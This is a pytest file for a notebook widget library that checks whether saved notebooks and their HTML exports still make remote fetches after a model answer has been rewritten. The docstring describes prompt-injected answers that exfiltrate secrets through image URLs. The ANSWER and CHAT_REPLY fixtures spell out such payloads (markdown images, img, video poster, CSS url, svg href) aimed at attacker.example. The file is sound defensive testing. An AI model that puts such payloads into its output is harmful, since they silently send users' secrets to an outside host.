"""A saved notebook whose answers are full of remote images and HTML fetches nothing.

Why (issue 7, security): when a stream ends, each display of the widget is updated with
the answer as ``text/markdown``, and that is what a notebook opened without widget state,
nbconvert or GitHub shows. A prompt-injected answer (``![x](https://attacker/?q=<secret>)``,
``<img src=...>``) would make the reader's machine send the secret. Here a real kernel
streams such an answer from the offline server through ``stream()`` and ``Chat``, nbclient
saves the notebook (as ``execute.py`` saves the tutorials), nbconvert exports it to HTML,
and that HTML is read with ``html.parser``: the attacker's host is only ever a link's
``href``, and the answer's text, links and code are there.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nbformat
import pytest
from execute import kernel_env
from nbclient import NotebookClient
from nbconvert import HTMLExporter

from gemini_widgets.safe_markdown import IMAGE_MARK, without_remote_fetches

HOST = "attacker.example"
SECRET = "secret-token"
ANSWER = [
    "# Report\n\nHere is the chart: ",
    f"![sales chart](https://{HOST}/c.png?q={SECRET})\n\n",
    f'<img src="https://{HOST}/i.png?q={SECRET}">\n\n',
    f"[![build badge](https://{HOST}/b.svg?q={SECRET})](https://ci.example/build)\n\n",
    f'Inline <video poster="https://{HOST}/v.jpg?q={SECRET}"></video> and <br> a ',
    f"![reference][r] too, with <sub>2</sub> and $\\style{{background:url(https://{HOST}/s)}}{{x}}$\n\n",
    f'<div style="background-image:url(https://{HOST}/d.png)">\n<svg><image href="https://{HOST}/g"/></svg>\n</div>\n\n',
    f"[r]: https://{HOST}/r.png?q={SECRET}\n\n",
    '```html\n<img src="https://code.example/in-code.png">\n![kept](https://code.example/k.png)\n```\n',
]
TEXT = "".join(ANSWER)
CHAT_REPLY = [f"Sure: ![map](https://{HOST}/map.png?q={SECRET}) and ", f"<img src=//{HOST}/x>"]

SOURCES = [
    f"""\
from gemini_widgets import Chat, stream
from gemini_widgets.client import offline_server
MODEL = "gemini-2.5-flash"
server = offline_server()
server.script(*{ANSWER!r}, prompt="Show me the report")
server.script(*{CHAT_REPLY!r}, prompt="And a map?")""",
    """result = stream("Show me the report", model=MODEL)""",
    f"""print("state text is the model's:", result.text == {TEXT!r})""",
    """\
chat = Chat(model=MODEL)
display(chat)
reply = chat.send("And a map?")""",
    f"""\
said = "".join(p.text or "" for c in chat.history if c.role == "model" for p in c.parts)
raw = {"".join(CHAT_REPLY)!r}
print("chat history is the model's:", said == reply.text == raw and raw in chat.to_markdown())""",
]


class _Attributes(HTMLParser):
    """Every element with an attribute that names the attacker's host, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.naming_host: list[tuple[str, str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if HOST in (value or ""):
                self.naming_host.append((tag, name, value or ""))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(s) for s in SOURCES])
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    folder = tmp_path_factory.mktemp("fallback")
    client = NotebookClient(
        nb,
        timeout=120,
        kernel_name="python3",
        resources={"metadata": {"path": str(folder)}},
        store_widget_state=False,
    )
    client.execute(env=kernel_env())
    nbformat.write(nb, folder / "answers.ipynb")
    return nbformat.read(folder / "answers.ipynb", as_version=4)


def _markdown_outputs(cell: nbformat.NotebookNode) -> list[str]:
    return [
        o["data"]["text/markdown"] for o in cell.outputs if "text/markdown" in o.get("data", {})
    ]


def test_the_saved_markdown_is_the_rewritten_answer(saved: nbformat.NotebookNode) -> None:
    assert _markdown_outputs(saved.cells[1]) == [without_remote_fetches(TEXT)]
    (chat,) = _markdown_outputs(saved.cells[3])
    assert f"{IMAGE_MARK} [map](https://{HOST}/map.png?q={SECRET})" in chat
    assert f"&lt;img src=//{HOST}/x>" in chat


def test_the_answer_itself_is_left_as_the_model_wrote_it(saved: nbformat.NotebookNode) -> None:
    printed = [o.get("text", "") for i in (2, 4) for o in saved.cells[i].outputs]
    assert printed == ["state text is the model's: True\n", "chat history is the model's: True\n"]


def test_the_exported_html_fetches_nothing_from_the_answers(saved: nbformat.NotebookNode) -> None:
    html = HTMLExporter().from_notebook_node(saved)[0]
    page = _Attributes()
    page.feed(html)

    # The host is named only by links (a click, not a fetch)...
    assert page.naming_host, "the answers' links are missing"
    assert {(tag, name) for tag, name, _ in page.naming_host} == {("a", "href")}
    # ...and no MathJax macro that takes CSS is left (`\\style` reads as text).
    assert not re.search(r"(?<!\\)\\style\{", html)

    text = " ".join(" ".join(page.text).split())
    for shown in (
        f"{IMAGE_MARK} sales chart",
        f"{IMAGE_MARK} build badge",
        f"{IMAGE_MARK} reference",
        f"{IMAGE_MARK} map",
        f'<img src="https://{HOST}/i.png?q={SECRET}">',  # raw HTML shows as text
        f'<video poster="https://{HOST}/v.jpg?q={SECRET}">',
        '<img src="https://code.example/in-code.png">',  # code is code
        "![kept](https://code.example/k.png)",
    ):
        assert shown in text, shown
    assert "<sub>2</sub>" in html  # harmless tags without attributes stay HTML


def test_the_same_answer_unrewritten_would_have_fetched() -> None:
    """The check above is not vacuous: nbconvert renders the raw answer's images."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("")])
    nb.cells[0].outputs = [
        nbformat.v4.new_output("display_data", data={"text/markdown": TEXT, "text/plain": ""})
    ]
    page = _Attributes()
    page.feed(HTMLExporter().from_notebook_node(nb)[0])
    tags = {tag for tag, _, _ in page.naming_host}
    assert {"img", "video", "div", "image"} <= tags
